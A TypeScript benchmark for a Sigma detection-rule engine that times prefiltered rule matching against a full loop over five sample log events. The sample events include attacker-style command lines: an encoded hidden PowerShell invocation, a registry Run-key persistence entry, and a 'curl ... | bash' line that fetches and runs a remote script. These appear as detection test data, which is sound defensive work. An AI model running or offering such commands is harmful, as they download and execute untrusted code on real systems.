// Evaluation benchmark: every rule of a corpus against one event at a time, through RuleSet's
// prefilter index, compared with trying every rule. Uses ../shared/sigma-corpus when present (or
// SIGMA_CORPUS_DIR), otherwise a generated corpus. Prints compile time, per-event median/p95 and how
// many rules the prefilter tried; checks the index finds exactly what the full loop finds.
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { compileRule, RuleCompileError, RuleSet, type CompiledRule, type SigmaEvent } from '@huntforge/sigma';

const corpusDir = resolve(process.env.SIGMA_CORPUS_DIR ?? join(__dirname, '..', '..', '..', 'shared', 'sigma-corpus'));

function walk(dir: string, out: string[] = []): string[] {
  for (const entry of readdirSync(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) walk(path, out);
    else if (/\.ya?ml$/.test(entry.name)) out.push(path);
  }
  return out;
}

function generatedCorpus(count: number): string[] {
  return Array.from(
    { length: count },
    (_, i) =>
      `title: Generated ${i}\nlogsource: {category: process_creation, product: windows}\ndetection:\n  selection:\n    Image|endswith: '\\tool${i % 300}.exe'\n    CommandLine|contains: ' -flag${i % 800} '\n  condition: selection\n`,
  );
}

const texts = existsSync(corpusDir) ? walk(corpusDir).map((path) => readFileSync(path, 'utf8')) : generatedCorpus(4000);
const label = existsSync(corpusDir) ? `corpus ${corpusDir}` : 'generated corpus (4,000 rules)';

const events: SigmaEvent[] = [
  {
    EventID: 1,
    Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    OriginalFileName: 'PowerShell.EXE',
    CommandLine: 'powershell.exe -NoP -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
    ParentImage: 'C:\\Windows\\System32\\cmd.exe',
    ParentCommandLine: 'cmd.exe /c start.bat',
    User: 'CORP\\alice',
    IntegrityLevel: 'Medium',
    CurrentDirectory: 'C:\\Users\\alice\\AppData\\Local\\Temp\\',
  },
  {
    EventID: 1,
    Image: 'C:\\Windows\\System32\\rundll32.exe',
    OriginalFileName: 'RUNDLL32.EXE',
    CommandLine: 'rundll32.exe C:\\ProgramData\\update.dll,DllRegisterServer',
    ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
  },
  { EventID: 13, EventType: 'SetValue', TargetObject: 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater', Details: 'C:\\Users\\Public\\upd.exe', Image: 'C:\\Users\\Public\\upd.exe' },
  { EventID: 22, QueryName: 'raw.githubusercontent.com', Image: 'C:\\Windows\\System32\\curl.exe', QueryResults: '185.199.108.133' },
  { Image: '/usr/bin/curl', CommandLine: 'curl -s http://203.0.113.7/x.sh | bash', ParentImage: '/bin/bash', User: 'root' },
];

const started = performance.now();
const set = new RuleSet<number>();
const all: CompiledRule[] = [];
let refused = 0;
for (const text of texts) {
  try {
    const rule = compileRule(text);
    set.add(rule, all.length);
    all.push(rule);
  } catch (error) {
    if (!(error instanceof RuleCompileError)) throw error;
    refused++;
  }
}
const compileMs = performance.now() - started;
const alwaysTried = all.filter((rule) => rule.triggers === null).length;

function time(run: () => void, repeat: number): { median: number; p95: number } {
  const samples: number[] = [];
  for (let i = 0; i < repeat; i++) {
    const t0 = performance.now();
    run();
    samples.push(performance.now() - t0);
  }
  samples.sort((a, b) => a - b);
  const at = (p: number): number => samples[Math.min(samples.length - 1, Math.floor(p * samples.length))] ?? 0;
  return { median: at(0.5), p95: at(0.95) };
}

console.log(`sigma-corpus-match: ${label}`);
console.log(`  rules compiled ${all.length} (refused ${refused}) in ${compileMs.toFixed(0)} ms; ${alwaysTried} rules have no prefilter key (always tried)`);
let disagreements = 0;
for (const [index, event] of events.entries()) {
  const indexed = set.match(event).map((entry) => entry.meta);
  const full = all.flatMap((rule, position) => (rule.matches(event) ? [position] : []));
  if (indexed.join() !== full.join()) disagreements++;
  const withIndex = time(() => set.match(event), 300);
  const everyRule = time(() => all.forEach((rule) => rule.matches(event)), 60);
  console.log(
    `  event ${index}: ${full.length} rules fire; index tries ${set.candidateCount(event)} rules: median ${withIndex.median.toFixed(3)} ms, p95 ${withIndex.p95.toFixed(3)} ms` +
      ` | every rule: median ${everyRule.median.toFixed(3)} ms, p95 ${everyRule.p95.toFixed(3)} ms`,
  );
}
console.log(`  events where the index and the full loop disagree: ${disagreements}`);
